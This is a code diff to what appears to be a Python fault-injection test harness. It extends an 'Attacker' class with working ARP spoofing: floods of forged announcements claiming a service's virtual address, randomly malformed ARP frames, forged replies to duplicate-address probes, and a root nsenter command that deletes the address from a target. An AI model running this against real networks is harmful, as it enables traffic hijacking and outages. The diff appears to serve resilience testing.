@@ -5,6 +5,7 @@ import random
 import re
 import socket
 import struct
+import subprocess
 import sys
 import threading
 import time
@@ -38,6 +39,12 @@ def echo_packet(source, to, kind, number):
     def message(total):
         return struct.pack("!BBH", kind, 0, total) + struct.pack("=HH", number, 0) + bytes(40)
     return internet_packet(socket.IPPROTO_ICMP, source, to, message(checksum(message(0))))
+
+
+def arp_frame(to, own, operation, sender, target, theirs=bytes(6)):
+    """From the hardware address `own`, which it says is that of `sender`."""
+    return struct.pack("!6s6sHHHBBH6s4s6s4s", to, own, 0x806, 1, 0x800, 6, 4, operation, own, socket.inet_aton(sender),
+                       theirs, socket.inet_aton(target))
 
 
 def behind_internet_header(frame, protocol, source):
@@ -145,8 +152,7 @@ class Attacker(Connections):
         theirs = bytes.fromhex(found[1].replace(":", ""))
         sender = packet_socket(interface)
         own = sender.getsockname()[4]
-        return sender, struct.pack("!6s6sHHHBBH6s4s6s4s", theirs, own, 0x806, 1, 0x800, 6, 4, 2, own,
-                                   socket.inet_aton(address), theirs, socket.inet_aton(victim))
+        return sender, arp_frame(theirs, own, 2, address, victim, theirs)
 
     @contextlib.contextmanager
     def spoofing(self, network, victim, address):
@@ -166,6 +172,49 @@ class Attacker(Connections):
         finally:
             ended.set()
             thread.join()
+
+    def send_arp(self, source, at_once=20, spoilt=lambda frame: frame):
+        """Requests for the service address, to everybody on its network; from that address they are announcements."""
+        sender = packet_socket(self.orders["interfaces"]["service"])
+        frame = arp_frame(b"\xff" * 6, sender.getsockname()[4], 1, source, self.orders["virtual"])
+        while not self.stopped:
+            for _ in range(at_once):
+                sender.send(spoilt(frame))
+            self.did(tries=at_once)
+            time.sleep(0.001)
+
+    def send_malformed(self):
+        dice = random.Random(self.orders["seed"])
+
+        def spoilt(frame):
+            """Cut short, or with another type, length or operation in it."""
+            changed = bytearray(frame)
+            changed[14 + dice.randrange(8)] ^= 128 + dice.randrange(128)
+            return dice.choice((frame[:14 + dice.randrange(28)], changed))
+        self.send_arp(self.orders["virtual"], spoilt=spoilt)
+
+    def answer_probes(self):
+        """Whoever asks whether the service address is free hears that this host has it."""
+        sender = packet_socket(self.orders["interfaces"]["service"], 0x806)
+        own = sender.getsockname()[4]
+        sender.settimeout(0.1)
+        while not self.stopped:
+            with contextlib.suppress(TimeoutError):
+                asked = sender.recv(64)
+                if asked[28:32] == bytes(4) and asked[38:42] == socket.inet_aton(self.orders["virtual"]):
+                    theirs = asked[6:12]
+                    sender.send(arp_frame(theirs, own, 2, self.orders["virtual"], "0.0.0.0", theirs))
+                    self.did(tries=1)
+
+    def remove_address(self):
+        """As root of the target; tries: how often it was there."""
+        command = ["nsenter", "-t", str(self.orders["capturePid"]), "-n", "ip", "address", "delete",
+                   self.orders["virtual"] + "/32", "dev", self.orders["interfaces"]["service"]]
+        in_time = self.until(10)
+        while in_time():
+            if subprocess.run(command, stderr=subprocess.DEVNULL).returncode == 0:
+                self.did(tries=1)
+            time.sleep(0.01)
 
     def until_stopped(self):
         while not self.stopped:
